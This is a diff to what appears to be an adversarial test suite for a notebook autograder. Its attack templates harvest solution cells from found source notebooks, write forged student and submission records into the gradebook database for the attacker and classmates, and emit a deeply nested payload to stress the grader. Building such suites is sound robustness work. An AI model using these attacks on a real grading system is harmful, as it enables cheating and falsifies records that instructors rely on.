@@ -42,10 +42,10 @@ file an attack creates or line it appends carries :data:`MARK` so the test can f
 remove) it.
 """
 
+# ruff: noqa: E501, E731  (attack code lives in string templates; builders are one-line lambdas)
 from __future__ import annotations
 
 import copy
-import json
 from collections.abc import Callable
 from dataclasses import dataclass, field
 
@@ -383,7 +383,8 @@ sys.stdout.write(json.dumps(out))
 """
 
 # ---- answers: reference modules served from memory, solution cells of found source notebooks
-_ANSWERS = {}
+import numpy as np
+_ANSWERS = {"np": np}
 _REF_SOURCES = {}
 
 class _RefFinder:
@@ -415,9 +416,11 @@ def _take(path, text):
             cells = json.loads(text)["cells"]
         except Exception:
             return
-        for c in cells:
+        for c in cells:  # the setup cells (imports), then the solutions
             src = "".join(c.get("source", ""))
-            if c.get("cell_type") == "code" and "BEGIN SOLUTION" in src:
+            setup = "setup" in c.get("metadata", {}).get("tags", []) or \
+                c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "setup"
+            if c.get("cell_type") == "code" and (setup or "BEGIN SOLUTION" in src):
                 try:
                     exec(src, _ANSWERS)
                 except Exception:
@@ -704,6 +707,7 @@ for _db in _gradebooks():
     try:
         with Gradebook("sqlite:///" + _db) as _gb:
             for _a in _gb.assignments:
+                _gb.update_or_create_student(ME)
                 _sub = _gb.update_or_create_submission(_a.name, ME)
                 for _nb in _sub.notebooks:
                     for _g in _nb.grades:
@@ -791,6 +795,7 @@ for _db in _gradebooks():
         with Gradebook("sqlite:///" + _db) as _gb:
             for _a in _gb.assignments:
                 for _v in _mates:
+                    _gb.update_or_create_student(_v)
                     _sub = _gb.update_or_create_submission(_a.name, _v)
                     for _nb in _sub.notebooks:
                         for _g in _nb.grades:
@@ -1207,10 +1212,10 @@ def corpus(toy: tuple, nb1: tuple | None, *, cell_timeout: float) -> list[Attack
         toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: gs._prepend_body(c, flood_fn) if g in last_sol else c),
                              total - pts[max(pts)])), kinds=("flood",))
     add("res_nested_payload", "resources", "output cap / grader robustness",
-        "the last exercise's function publishes a payload nested 200000 deep from inside its test cell "
-        "(expected: the other exercises' points)",
+        "the last exercise's function (correct) publishes a record nested 200000 deep, for no check, from inside "
+        "its test cell: the grader must survive it (expected: full marks; before the sandbox too)",
         toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: NESTED_PAYLOAD + gs._prepend_body(c, "_emit_nested()\n")
-                                               if g in last_sol else c), total - pts[max(pts)])))
+                                               if g in last_sol else c), total)))
 
     # ---------------------------------------------------------------- forge the record
     # The functions only know the visible test's answer (so the visible part passes) and return zeros
